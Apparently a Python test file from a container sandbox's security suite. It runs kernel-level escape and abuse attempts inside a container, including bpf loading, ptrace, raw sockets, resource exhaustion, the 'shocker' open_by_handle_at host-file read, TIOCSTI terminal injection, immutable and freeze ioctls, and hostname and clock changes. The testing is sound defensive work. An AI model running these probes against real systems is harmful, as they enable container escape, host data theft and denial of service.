# Copyright (c) 2026 The DockerSandboxApp authors
# GNU General Public License v3.0 or later (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""System calls that reach the kernel past the walls: each is seen by what it leaves open or changes, never by its answer."""

from __future__ import annotations

import ctypes
import fcntl
import pathlib

from security.arena import Box
from security.cases import NotHere, Scene, case

HOLD = "\nhold()\n"


def _descriptors(box: Box) -> set[str]:
    return {link for link in box.links("fd/*") if link.startswith("anon_inode:")}


def _opened(scene: Scene, script: str) -> str:
    return scene.kept(script + HOLD, "a descriptor", _descriptors)


def _socket(scene: Scene, script: str, *wanted: tuple[int, int]) -> str:
    with scene.attack(script + HOLD):
        found = scene.box.sockets()
    return f"a socket of family and protocol {min(found)}" if any(one in found for one in wanted) else ""


def _number(path: str) -> int:
    if not pathlib.Path(path).exists():
        raise NotHere(f"no {path}")
    return int(pathlib.Path(path).read_text(encoding="ascii").split()[0])


@case("io_uring, which works past the filter", "seccomp")
def io_uring(scene: Scene) -> str:
    return _opened(scene, "attempt(lambda: call('io_uring_setup', 8, ctypes.create_string_buffer(120)))")


@case("load a map and a program by bpf", "seccomp + capabilities")
def bpf(scene: Scene) -> str:
    return _opened(
        scene,
        """
attempt(lambda: call('bpf', 0, ctypes.create_string_buffer(struct.pack("<5I", 2, 4, 8, 1, 0).ljust(72, b"\\0")), 72))
code = ctypes.create_string_buffer(struct.pack("<QQ", 0x00000000000000b7, 0x0000000000000095))
attempt(lambda: call('bpf', 5, ctypes.create_string_buffer(struct.pack("<IIQQ", 1, 2, ctypes.addressof(code), 0).ljust(120, b"\\0")), 120))
""",
    )


@case("perf_event_open", "seccomp")
def perf(scene: Scene) -> str:
    # A software clock of user space alone: the least that the kernel asks no right for.
    return _opened(
        scene,
        """
given = ctypes.create_string_buffer(struct.pack("<IIQQQQQ", 1, 112, 1, 0, 0, 0, 0x60 | 1).ljust(112, b"\\0"))
attempt(lambda: call('perf_event_open', given, 0, -1, -1, 0))
""",
    )


@case("userfaultfd, with and without faults of the kernel", "seccomp")
def userfault(scene: Scene) -> str:
    return _opened(scene, "for flags in (1, 0): attempt(lambda: call('userfaultfd', flags))")


@case("fanotify, which watches whole mounts", "seccomp + capabilities")
def fanotify(scene: Scene) -> str:
    return _opened(scene, "for flags in (0x200, 0): attempt(lambda: call('fanotify_init', flags, 0))")


@case("add a key to a keyring of the kernel, which no namespace separates", "seccomp")
def keyring(scene: Scene) -> str:
    script = "for ring in (-2, -3, -4, -5): attempt(lambda: call('add_key', b'user', T.encode(), b'x', 1, ring))"
    with scene.attack(script + HOLD):
        lines = pathlib.Path("/proc/key-users").read_text(encoding="ascii").splitlines()
    found = [line for line in lines if line.split(":")[0].strip() == str(scene.box.uid)]
    return f"keys of its uid: {found[0]}" if found and int(found[0].split()[1]) > 0 else ""


@case("trace a process, its child's and by request", "seccomp")
def ptrace(scene: Scene) -> str:
    script = """
child = os.fork()
if child == 0:
    time.sleep(20)
    os._exit(0)
attempt(lambda: call('ptrace', 0x4206, child, 0, 0), lambda: call('ptrace', 16, child, 0, 0))
"""
    with scene.attack(script + HOLD):
        traced = scene.box.status("TracerPid") - {"0"}
    # A runtime that emulates the kernel may trace its own processes on the host from the start.
    return "a process is traced" if traced and scene.box.runtime == "runc" else ""


@case("sockets of the kernel's crypto and of virtual machines", "seccomp")
def odd_sockets(scene: Scene) -> str:
    return _socket(
        scene,
        "import socket as s\nkeep = [attempt(lambda: s.socket(family, kind, 0)) for family, kind in ((38, 5), (40, 1), (40, 2), (30, 2), (15, 3), (21, 5))]",
        *[(family, protocol) for family in (38, 40, 30, 15, 21) for protocol in range(3)],
    )


@case("packet and raw sockets, on which all traffic is seen", "seccomp + capabilities")
def packet_sockets(scene: Scene) -> str:
    return _socket(
        scene,
        "keep = [attempt(lambda: socket.socket(*given)) for given in ((17, 3, 0x300), (17, 2, 0x300), (2, 3, 1), (2, 3, 255), (10, 3, 58))]",
        *[(17, protocol) for protocol in (0x300, 3, 0)],
        *[(2, protocol) for protocol in (1, 255)],
        (10, 58),
    )


@case("IP sockets that are neither TCP nor UDP: SCTP, DCCP, MPTCP, UDP-Lite, L2TP", "seccomp")
def ip_protocols(scene: Scene) -> str:
    kinds = [(2, 1, 132), (2, 5, 132), (2, 6, 33), (2, 1, 262), (10, 1, 262), (2, 2, 136), (2, 2, 115), (2, 2, 1)]
    script = f"keep = [attempt(lambda: socket.socket(*given)) for given in {kinds}]"
    return _socket(scene, script, *[(family, protocol) for family, _kind, protocol in kinds])


@case("netlink of other kinds than routes: audit, connector, netfilter, uevents, crypto", "seccomp")
def netlink(scene: Scene) -> str:
    script = "keep = [attempt(lambda: socket.socket(16, 3, protocol)) for protocol in range(1, 23)]"
    return _socket(scene, script, *[(16, protocol) for protocol in range(1, 23)])


@case("take all contexts of asynchronous I/O, which are counted for the whole machine", "seccomp", source="fs.aio-max-nr")
def asynchronous_io(scene: Scene) -> str:
    before = _number("/proc/sys/fs/aio-nr")
    script = "for size in (65536, 16384, 4096, 1024, 128): attempt(lambda: call('io_setup', size, ctypes.create_string_buffer(8)))"
    with scene.attack(script + HOLD):
        taken = _number("/proc/sys/fs/aio-nr") - before
    return f"{taken} of {_number('/proc/sys/fs/aio-max-nr')} are taken" if taken > 0 else ""


@case("take the huge pages that the host has set aside", "seccomp")
def huge_pages(scene: Scene) -> str:
    path = pathlib.Path("/proc/sys/vm/nr_hugepages")
    before = _number(str(path))
    path.write_text(str(before + 4), encoding="ascii")

    def free() -> int:
        lines = pathlib.Path("/proc/meminfo").read_text(encoding="ascii").splitlines()
        return sum(int(line.split()[1]) * sign for line in lines for word, sign in (("HugePages_Free:", 1), ("HugePages_Rsvd:", -1)) if line.startswith(word))

    script = """
def anonymous():
    page = mmap.mmap(-1, 4 << 20, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40000)
    page[0] = 1
    return page
def file():
    page = mmap.mmap(call('memfd_create', b"x", 4), 4 << 20)
    page[0] = 1
    return page
keep = attempt(anonymous, file)
attempt(lambda: call('shmget', 0, 4 << 20, 0o5600))
"""
    try:
        there = free()
        if there < 4:
            raise NotHere("no room for huge pages")
        with scene.attack(script + HOLD):
            taken = there - free()
    finally:
        path.write_text(str(before), encoding="ascii")
    return f"{taken} pages are taken" if taken > 0 else ""


@case("switch off address randomisation and the zero page's protection", "seccomp")
def personality(scene: Scene) -> str:
    def of(box: Box) -> set[str]:
        found = set()
        for pid in box.processes():
            path = pathlib.Path(f"/proc/{pid}/personality")
            if path.exists():
                found.add(path.read_text(encoding="ascii").strip())
        return found

    return scene.kept("attempt(lambda: call('personality', 0x0040000 | 0x0100000))" + HOLD, "a personality", of)


@case("open the host's file by its handle (shocker)", "seccomp + capabilities", source="CVE-2014-3519")
def file_handle(scene: Scene) -> str:
    # The handle is the true one, as the host sees it: no guessing is asked of the attack.
    handle = ctypes.create_string_buffer(b"\x80\0\0\0", 136)
    mount = ctypes.c_int()
    if ctypes.CDLL(None).name_to_handle_at(-100, str(scene.arena.file).encode(), handle, ctypes.byref(mount), 0) != 0:
        raise NotHere("a file system without handles")
    return scene.stolen(
        """
handle = ctypes.create_string_buffer(bytes.fromhex(E["HANDLE"]), 136)
for path in ("/workspace", "/originals", "/", "/etc/passwd", "/etc/hosts", "/etc/resolv.conf", "/tmp"):
    with contextlib.suppress(OSError):
        print(os.read(call('open_by_handle_at', os.open(path, os.O_RDONLY), handle, 0), 99), flush=True)
""",
        {"HANDLE": handle.raw.hex()},
    )


@case("type into a terminal as its user (TIOCSTI, TIOCLINUX)", "seccomp", source="CVE-2017-5226")
def terminal_input(scene: Scene) -> str:
    script = """
import pty
child, end = pty.fork()
if child == 0:
    for char in T + "\\n":
        for request in (0x5412, 0x5412 | 1 << 32):
            if libc.syscall(ctypes.c_long(N['ioctl']), 0, ctypes.c_long(request), char.encode()) == 0:
                break
    import select
    if select.select([0], [], [], 1)[0]:
        os.write(1, b"typed " + os.read(0, 99))
    os._exit(0)
said = b""
with contextlib.suppress(OSError):
    while chunk := os.read(end, 99):
        said += chunk
print(said)
"""
    legacy = pathlib.Path("/proc/sys/dev/tty/legacy_tiocsti")
    if legacy.exists() and legacy.read_text(encoding="ascii").strip() == "0":
        raise NotHere("a kernel that lets nobody")
    return "it was typed" if f"typed {scene.mark}" in scene.said(script) else ""


_GET_FLAGS, _SET_FLAGS, _IMMUTABLE = 0x80086601, 0x40086602, 0x30


@case("ioctls on files and their file systems: immutable, frozen, shut down, resized", "cap on the working set + capabilities")
def ioctls(scene: Scene) -> str:
    # Not on what lies on the host's own disk, where the protection is taken away.
    places = "/workspace /tmp /originals /etc/passwd" if not scene.lacks else ""
    script = """
file = os.open("/workspace/" + T, os.O_CREAT | os.O_RDWR, 0o600)
def ioctl(fd, request, given):
    attempt(lambda: fcntl.ioctl(fd, request, given))
ioctl(file, 0x401c5820, struct.pack("<5I8x", 8, 0, 0, 99, 0))
ioctl(file, 0x40086602, struct.pack("<Q", 0x30))
for path in E["PLACES"].split():
    fd = os.open(path, os.O_RDONLY)
    for request, given in ((0xC0045877, b"\\0" * 4), (0xC0185879, struct.pack("<3Q", 0, 1 << 40, 0)), (0x8004587D, struct.pack("<I", 2)),
                           (0x4010586E, struct.pack("<QI4x", 1 << 30, 25)), (0x40086602, struct.pack("<Q", 0x30))):
        ioctl(fd, request, given)
hold()
"""
    with scene.attack(script, more={"PLACES": places}):
        path = scene.lies / scene.mark
        with path.open("rb") as file:
            flags = int.from_bytes(fcntl.ioctl(file, _GET_FLAGS, bytes(8))[:4], "little") & _IMMUTABLE
            if flags:
                fcntl.ioctl(file, _SET_FLAGS, bytes(8))
    scene.box.emptied(scene.mark)
    return f"a file that the host cannot remove ({flags:#x})" if flags else ""


@case("read the kernel's log", "seccomp + capabilities")
def kernel_log(scene: Scene) -> str:
    if not pathlib.Path("/dev/kmsg").is_char_device():
        raise NotHere("no /dev/kmsg")
    pathlib.Path("/dev/kmsg").write_text(f"security battery {scene.arena.secret}\n", encoding="ascii")
    script = """
buffer = ctypes.create_string_buffer(1 << 18)
# The end of it: all of a full log is more than is looked at.
attempt(lambda: print(buffer.raw[:call('syslog', 3, buffer, len(buffer))][-4096:]))
def last(path):
    log, lines = os.open(path, os.O_RDONLY | os.O_NONBLOCK), []
    try:
        while line := os.read(log, 1 << 16):
            lines.append(line)
    finally:
        print(lines[-20:])
for path in ("/dev/kmsg", "/proc/kmsg"):
    attempt(lambda: last(path))
"""
    return scene.stolen(script)


@case("change the host's name and clock")
def name_and_clock(scene: Scene) -> str:
    # Seen by what the host is afterwards, which is looked at after every case. Setting the clock of a machine that is in
    # use is not shown without the protection.
    scene.said(
        """
attempt(lambda: call('sethostname', T.encode(), len(T)))
attempt(lambda: call('clock_settime', 0, ctypes.create_string_buffer(struct.pack("<qq", int(time.time()) + 4000, 0))))
attempt(lambda: subprocess.run(["date", "-s", "@1000000000"], check=True))
"""
    )
    return ""
